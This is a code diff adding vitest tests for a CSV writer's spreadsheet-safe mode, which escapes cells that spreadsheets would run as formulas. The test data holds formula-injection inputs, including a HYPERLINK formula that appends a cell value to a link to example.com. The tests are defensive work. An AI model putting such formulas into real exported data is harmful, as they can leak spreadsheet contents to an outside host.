@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { ApiError } from '../http/api-error.js';
-import { type CsvTable, csvRecord, csvValues, parseCsv, readCsv, requireColumns } from './csv.js';
+import { type CsvTable, csvRecord, csvValues, parseCsv, readCsv, requireColumns, spreadsheetText } from './csv.js';
 
 /** The values of each row, for assertions that do not look at row numbers or problems. */
 const values = (table: CsvTable) => table.rows.map((row) => row.values);
@@ -186,5 +186,30 @@ describe('csvRecord', () => {
     const { rows } = parseCsv(text);
     expect(Object.values(rows[0]?.values ?? {})).toEqual(values);
     expect(rows[0]?.problem).toBeUndefined();
+  });
+
+  test('a spreadsheet-safe record puts a single quote before text a spreadsheet would run as a formula', () => {
+    const formulas = ['=1+1', '+SUM(A1:A2)', '-2*3', '@SUM(1)', '\t=1', '\r=1', '-', '+1+1', '=HYPERLINK("http://example.com/?"&A1)'];
+    expect(formulas.map(spreadsheetText)).toEqual(formulas.map((text) => `'${text}`));
+    expect(csvRecord(['=1+1', '@x', '\r=1', '=A1,B1'], { spreadsheetSafe: true })).toBe('\'=1+1,\'@x,"\'\r=1","\'=A1,B1"\r\n');
+  });
+
+  test('a spreadsheet-safe record keeps numbers numbers, negative ones and numbers written as text included', () => {
+    expect(csvRecord([-100, -0.5, 1500, '-100', '+1.5', '-2e3', '.5', 'a=b', 'x-1', true, null], { spreadsheetSafe: true })).toBe('-100,-0.5,1500,-100,+1.5,-2e3,.5,a=b,x-1,true,\r\n');
+  });
+
+  test('a spreadsheet-safe record quotes fields with a semicolon, the separator of spreadsheets in many locales', () => {
+    expect(csvRecord(['a;=1+1', 'plain'], { spreadsheetSafe: true })).toBe('"a;=1+1",plain\r\n');
+    expect(csvRecord(['a;=1+1'])).toBe('a;=1+1\r\n');
+  });
+
+  test('without the option, values are written as they are', () => {
+    expect(csvRecord(['=1+1', '-2*3', '@x'])).toBe('=1+1,-2*3,@x\r\n');
+  });
+
+  test('parseCsv reads a spreadsheet-safe record back with the quotes it added and nothing else changed', () => {
+    const values = ['=1+1', '-100', 'say "hi"', 'a;b', 'line\r\nbreak'];
+    const { rows } = parseCsv(csvRecord(values.map((_value, index) => `c${index}`)) + csvRecord(values, { spreadsheetSafe: true }));
+    expect(Object.values(rows[0]?.values ?? {})).toEqual(["'=1+1", '-100', 'say "hi"', 'a;b', 'line\r\nbreak']);
   });
 });
